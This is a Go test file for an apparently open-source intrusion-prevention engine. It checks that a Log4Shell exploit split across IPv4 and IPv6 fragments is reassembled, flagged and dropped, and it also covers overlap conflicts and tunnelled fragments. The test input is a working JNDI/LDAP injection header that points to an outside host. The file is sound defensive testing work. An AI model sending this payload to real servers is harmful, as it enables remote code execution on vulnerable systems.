package engine

import (
	"bytes"
	"net/netip"
	"testing"

	"github.com/google/gopacket/layers"
	"github.com/openutm/utm/dataplane/internal/testpcap"
)

const log4shell = "GET /search?q=1 HTTP/1.1\r\nHost: www.lab.test\r\nX-Api-Version: ${jndi:ldap://198.18.2.66/a}\r\nAccept: */*\r\n\r\n"

// fragmentedRequest is a handshake and one client segment carrying req,
// sent as IP fragments of 32 bytes so the exploit string is split across
// them. It returns the packets and the index of the completing fragment.
func fragmentedRequest(client, server, req string, reverse bool) ([]testpcap.Packet, int) {
	tr := testpcap.NewTrace(t0)
	c := tr.NewTCP(client, server).Handshake()
	c.Client([]byte(req), 0)
	var order []int
	if reverse {
		for i := len(testpcap.Fragments(tr.Packets[3].Data, 1, 32)) - 1; i >= 0; i-- {
			order = append(order, i)
		}
	}
	tr.FragmentAt(3, 0x1234, 32, order)
	pkts := tr.Sorted()
	last := 3
	for i := 3; i < len(pkts) && isFragment(pkts[i].Data); i++ {
		last = i
	}
	return pkts, last
}

func isFragment(b []byte) bool {
	if b[0]>>4 == 4 {
		return b[6]&0x3f != 0 || b[7] != 0
	}
	return b[6] == 44
}

// TestFragmentedExploitIsInspected: an exploit split across fragments is
// found in the reassembled datagram; every fragment is accepted except the
// completing one, which is dropped, and so is a resent copy of it.
func TestFragmentedExploitIsInspected(t *testing.T) {
	for _, c := range []struct {
		name           string
		client, server string
		reverse        bool
	}{
		{"IPv4 in order", "198.18.1.2:40000", "198.18.2.2:80", false},
		{"IPv4 reverse order", "198.18.1.2:40000", "198.18.2.2:80", true},
		{"IPv6", "[2001:2::1]:40000", "[2001:2::80]:80", false},
		{"IPv6 reverse order", "[2001:2::1]:40000", "[2001:2::80]:80", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			pkts, last := fragmentedRequest(c.client, c.server, log4shell, c.reverse)
			if last < 5 {
				t.Fatalf("the request went out in %d fragments, want more", last-2)
			}
			var rec recorder
			e := New(Config{Sink: &rec}, defaultBundle(t))
			for i, p := range pkts {
				v := e.Process(p.TS, p.Data)
				want := Accept
				if i == last {
					want = Drop
				} else if i > last {
					want = Drop // the server's ACK of a blocked flow
				}
				if v != want {
					t.Fatalf("packet %d (fragment %v) verdict %v, want %v", i, isFragment(p.Data), v, want)
				}
			}
			if v := e.Process(pkts[last].TS, pkts[last].Data); v != Drop {
				t.Fatalf("resent completing fragment: %v, want drop (the receiver holds the others)", v)
			}
			al := rec.alerts()
			if len(al) != 1 || al[0].Alert.SignatureID != 2200001 || al[0].HTTP == nil || al[0].HTTP.URL != "/search?q=1" {
				t.Fatalf("want one Log4Shell alert (sid 2200001) with the URL, got %+v", al)
			}
			s := e.Stats()
			nfrag := uint64(last - 2)
			if s.Fragments.Load() != nfrag+1 || s.Frag.Reassembled.Load() != 1 || s.Frag.DroppedBad.Load() != 1 {
				t.Fatalf("fragments %d (want %d), reassembled %d, dropped bad %d", s.Fragments.Load(), nfrag+1, s.Frag.Reassembled.Load(), s.Frag.DroppedBad.Load())
			}
			if s.Packets.Load() != uint64(len(pkts)+1) || s.Accepted.Load()+s.Dropped.Load() != s.Packets.Load() {
				t.Fatalf("packets %d (want %d), accepted %d + dropped %d", s.Packets.Load(), len(pkts)+1, s.Accepted.Load(), s.Dropped.Load())
			}
			var bytesIn uint64
			for _, p := range pkts {
				bytesIn += uint64(len(p.Data))
			}
			if got := s.Bytes.Load(); got != bytesIn+uint64(len(pkts[last].Data)) {
				t.Fatalf("bytes %d, want %d (fragments counted once)", got, bytesIn+uint64(len(pkts[last].Data)))
			}
		})
	}
}

// TestFragmentedBenignRequest: a benign fragmented request passes whole and
// is parsed as HTTP.
func TestFragmentedBenignRequest(t *testing.T) {
	req := "GET /index.html HTTP/1.1\r\nHost: www.lab.test\r\nUser-Agent: fragmenting-client/1.0\r\n\r\n"
	pkts, _ := fragmentedRequest("198.18.1.2:40000", "198.18.2.2:80", req, false)
	var rec recorder
	e := New(Config{Sink: &rec}, defaultBundle(t))
	for i, p := range pkts {
		if v := e.Process(p.TS, p.Data); v != Accept {
			t.Fatalf("packet %d: %v", i, v)
		}
	}
	if s := e.Stats(); s.HTTPRequests.Load() != 1 || s.Frag.Reassembled.Load() != 1 || len(rec.alerts()) != 0 {
		t.Fatalf("http requests %d, reassembled %d, alerts %d; want 1, 1, 0", s.HTTPRequests.Load(), s.Frag.Reassembled.Load(), len(rec.alerts()))
	}
}

// TestConflictingFragmentsDropped: an overlap that rewrites bytes drops the
// fragment and the rest of the datagram.
func TestConflictingFragmentsDropped(t *testing.T) {
	benign := bytes.Repeat([]byte("A"), 64)
	evil := bytes.Repeat([]byte("B"), 64)
	mk := func(data []byte) []byte {
		return testpcap.IP(mustAddr("198.18.1.2"), mustAddr("198.18.2.9"), layers.IPProtocolUDP, &layers.UDP{SrcPort: 5000, DstPort: 4000}, data)
	}
	a, b := mk(benign), mk(evil)
	e := New(Config{}, defaultBundle(t))
	steps := []struct {
		pkt  []byte
		want Verdict
	}{
		{testpcap.Frag4(a, 7, 0, 40, true), Accept},
		{testpcap.Frag4(b, 7, 32, 40, true), Drop}, // bytes 32..40 differ
		{testpcap.Frag4(a, 7, 40, 100, false), Drop},
	}
	for i, s := range steps {
		if v := e.Process(t0, s.pkt); v != s.want {
			t.Fatalf("fragment %d: %v, want %v", i, v, s.want)
		}
	}
	c := e.Counters()
	if c["frag_conflicts"] != 1 || c["frag_overlaps"] != 1 || c["frag_drop_bad"] != 1 || c["reassembled"] != 0 || c["fragments"] != 3 {
		t.Fatalf("counters %v", c)
	}
}

// TestFragmentPathAllocs: with warmed pools, fragmented datagrams of a
// known flow do not allocate.
func TestFragmentPathAllocs(t *testing.T) {
	tr := testpcap.NewTrace(t0)
	for i := 0; i < 300; i++ {
		tr.UDP("198.18.1.2:5000", "198.18.2.9:4000", bytes.Repeat([]byte{byte(i)}, 3000))
		tr.FragmentAt(len(tr.Packets)-1, uint32(i), 1480, nil)
	}
	pkts := tr.Sorted()
	e := New(Config{}, defaultBundle(t))
	for _, p := range pkts[:30] {
		e.Process(p.TS, p.Data)
	}
	i := 30
	n := testing.AllocsPerRun(len(pkts)-60, func() {
		if v := e.Process(pkts[i].TS, pkts[i].Data); v != Accept {
			t.Fatalf("packet %d: %v", i, v)
		}
		i++
	})
	if n != 0 {
		t.Fatalf("Process allocates %v times per fragment; want 0", n)
	}
	for _, p := range pkts[i:] {
		e.Process(p.TS, p.Data)
	}
	if n := e.Stats().Frag.Reassembled.Load(); n != 300 {
		t.Fatalf("reassembled %d datagrams, want 300", n)
	}
}

func mustAddr(s string) netip.Addr { return netip.MustParseAddr(s) }

// TestTunnelledFragmentDropped: the decoder reads the inner header of
// IP-in-IP; when that is a fragment's, nothing here can reassemble it, and
// the packet is dropped (fail closed) rather than passed uninspected.
func TestTunnelledFragmentDropped(t *testing.T) {
	inner := testpcap.IP(mustAddr("198.18.1.2"), mustAddr("198.18.2.9"), layers.IPProtocolUDP, &layers.UDP{SrcPort: 5000, DstPort: 4000}, bytes.Repeat([]byte("x"), 64))
	frag := testpcap.Frag4(inner, 9, 0, 32, true)
	outer := append(append([]byte(nil), inner[:20]...), frag...)
	outer[9] = 4                                           // IPv4 in IPv4
	outer = testpcap.Frag4(outer, 1, 0, len(outer), false) // lengths and checksum
	e := New(Config{}, defaultBundle(t))
	if v := e.Process(t0, outer); v != Drop {
		t.Fatalf("IP-in-IP carrying a fragment: %v, want drop", v)
	}
	if s := e.Stats(); s.Malformed.Load() != 1 || s.Fragments.Load() != 1 {
		t.Fatalf("malformed %d, fragments %d; want 1, 1", s.Malformed.Load(), s.Fragments.Load())
	}
}
